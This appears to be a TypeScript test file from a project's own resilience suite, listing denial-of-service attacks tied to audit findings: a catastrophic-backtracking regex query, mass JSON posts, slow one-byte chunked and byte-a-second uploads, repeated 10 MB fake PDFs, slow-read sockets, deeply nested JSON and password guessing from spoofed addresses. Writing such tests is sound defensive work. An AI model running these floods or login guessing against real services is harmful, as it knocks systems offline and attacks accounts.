import { connect } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { joinMessage, openSocket } from "#tests/support/measuring/live-clients.ts";
import { networkAttacks } from "./network-attacks.ts";
import {
  type Attack,
  ask,
  attachmentHead,
  attacker,
  beginUpload,
  drip,
  flood,
  json,
  leaveLead,
  madeUp,
  postAs,
  postJson,
} from "./outsider.ts";

export const attacks: readonly Attack[] = [
  {
    finding: "V1",
    does: "regular expressions over REST, hung up on",
    run: (target, isOver) =>
      flood(16, isOver, () =>
        ask(
          target,
          "/rest/v1/footer_settings?select=id&legal_notice_text=match.%5E(.%2B)(.%2B)(.%2B)%5C1%5C2%5C3%24",
          { headers: json(target), hangUpMs: 300 },
        ),
      ),
  },
  {
    finding: "V2",
    does: "pages' data with made-up routes",
    run: (target, isOver) => flood(3, isOver, () => ask(target, `/faq.data?_routes=${madeUp()}`)),
  },
  {
    finding: "V3",
    does: "four thousand enquiries in a post",
    run: (target, isOver) => {
      const body = JSON.stringify(Array.from({ length: 4_000 }, () => ({ phone: "1" })));
      return flood(2, isOver, () => postJson(target, "/rest/v1/contact_leads", body));
    },
  },
  {
    finding: "V5",
    does: "subscriptions with filters that fail",
    run: async (target, isOver) => {
      const hero = { event: "*", schema: "public", table: "homepage_content" } as const;
      const filters = Array.from({ length: 20 }, () => ({
        ...hero,
        filter: `section_type=match.[${madeUp()}`,
      }));
      const sockets = Array.from({ length: 20 }, () => {
        const socket = openSocket(target.url, target.publishableKey, attacker);
        socket.on("error", () => undefined);
        socket.on("open", () => socket.send(joinMessage("a", filters)));
        return socket;
      });
      while (!isOver()) await wait(200);
      for (const socket of sockets) socket.terminate();
    },
  },
  {
    finding: "V6",
    does: "attachments at a byte a second, made-up and real keys",
    run: async (target, isOver) => {
      const senders = ["203.0.113.66", "203.0.113.67", "203.0.113.68"];
      while (!isOver()) {
        const keys = await Promise.all(senders.map((from) => leaveLead(target, from)));
        const stops = senders.flatMap((from, i) =>
          [keys[i] ?? "", keys[i] ?? "", crypto.randomUUID()].map((key) => drip(target, key, from)),
        );
        for (let i = 0; i < 100 && !isOver(); i += 1) await wait(200);
        for (const stop of stops) stop();
      }
    },
  },
  {
    finding: "V7",
    does: "made-up parameters, tags and addresses",
    run: (target, isOver) =>
      flood(8, isOver, (turn) =>
        ask(target, [`/faq?tag=${madeUp()}`, `/blog?tag=${madeUp()}`, `/${madeUp()}`][turn % 3] ?? "/"),
      ),
  },
  {
    finding: "V8",
    does: "wrong passwords of the owner from six addresses",
    run: (target, isOver) =>
      flood(6, isOver, async (turn) => {
        await wait(500);
        const body = JSON.stringify({ email: "owner@example.org", password: `wrong ${turn}` });
        return postJson(target, "/auth/v1/token?grant_type=password", body, `203.0.113.${70 + (turn % 6)}`);
      }),
  },
  {
    finding: "V10",
    does: "attachments of ten megabytes, repeatedly",
    run: async (target, isOver) => {
      const bytes = Buffer.alloc(10 * 1024 * 1024 - 1024, 32);
      await flood(2, isOver, async (turn) => {
        const key = await leaveLead(target, attacker);
        bytes.write(`%PDF-1.7\n${turn}\n`, 0);
        bytes.write("\n%%EOF\n", bytes.length - 8);
        const form = new FormData();
        form.set("key", key);
        form.set("papers-follow", "yes");
        form.set("papers", new File([new Uint8Array(bytes)], "a.pdf"), "a.pdf");
        const sent = fetch(`${target.url}/lead-papers`, {
          method: "POST",
          headers: { "x-forwarded-for": attacker, origin: target.url },
          body: form,
        });
        const text = await sent.then((answer) => answer.text()).catch(() => "");
        return text.includes('"kept":1') ? 200 : 0;
      });
    },
  },
  {
    finding: "B1",
    does: "attachments in chunks of one byte",
    run: async (target, isOver) => {
      const crumbs = "1\r\nx\r\n".repeat(2_000);
      await flood(2, isOver, async (turn) => {
        const from = `198.51.100.${turn % 250}`;
        const key = await leaveLead(target, from);
        const head = attachmentHead(key);
        const socket = beginUpload(target, from, "Transfer-Encoding: chunked").resume();
        socket.write(`${head.length.toString(16)}\r\n${head}\r\n`);
        // Slow on purpose: this attacks the memory. At full speed it would be an ordinary flood.
        for (let sent = 0; sent < 1_000 && socket.writable && !isOver(); sent += 1) {
          socket.write(crumbs);
          await wait(100);
        }
        socket.destroy();
        return 200;
      });
    },
  },
  {
    finding: "V14",
    does: "upgrades that are none, then many sockets",
    run: (target, isOver) =>
      flood(8, isOver, async () => {
        await wait(20);
        return ask(target, `/realtime/v1/websocket?apikey=${target.publishableKey}`, {
          headers: { connection: "Upgrade", upgrade: "websocket" },
          hangUpMs: 500,
        });
      }),
  },
  {
    finding: "V21",
    does: "malformed addresses and bodies",
    run: (target, isOver) => {
      const deep = `{"phone":"1","details":${"[".repeat(8_000)}${"]".repeat(8_000)}}`;
      return flood(4, isOver, (turn) =>
        turn % 2 === 0
          ? ask(target, ["//", "///", "/%00", "/te//evil.example/x"][(turn >> 1) % 4] ?? "/")
          : postJson(target, "/rest/v1/contact_leads", deep),
      );
    },
  },
  {
    finding: "V26",
    does: "large answers asked for and read a little at a time",
    run: async (target, isOver) => {
      const { hostname, port } = new URL(target.url);
      const readers = Array.from({ length: 200 }, () => {
        const socket = connect(Number(port), hostname);
        socket.on("error", () => undefined);
        socket.write(
          `GET /admin/shipped-posts.json HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${attacker}\r\n\r\n`.repeat(
            20,
          ),
        );
        socket.on("data", () => {
          socket.pause();
          setTimeout(() => socket.resume(), 500);
        });
        return socket;
      });
      while (!isOver()) await wait(200);
      for (const socket of readers) socket.destroy();
    },
  },
  {
    finding: "A1",
    does: "very long answers to “is this wrong?”, from many addresses",
    run: (target, isOver) => {
      const fields = { remark: "a".repeat(60_000) };
      return flood(4, isOver, (turn) =>
        postAs(target, "/wrong/khata-merging", `198.51.100.${turn % 250}`, fields),
      );
    },
  },
  {
    finding: "A3",
    does: "made-up searches and long addresses",
    run: (target, isOver) =>
      flood(8, isOver, (turn) =>
        ask(
          target,
          turn % 2 === 0 ? `/search?q=${madeUp()}+passbook+mutation` : `/${"long-".repeat(80)}${madeUp()}`,
        ),
      ),
  },
  ...networkAttacks,
];
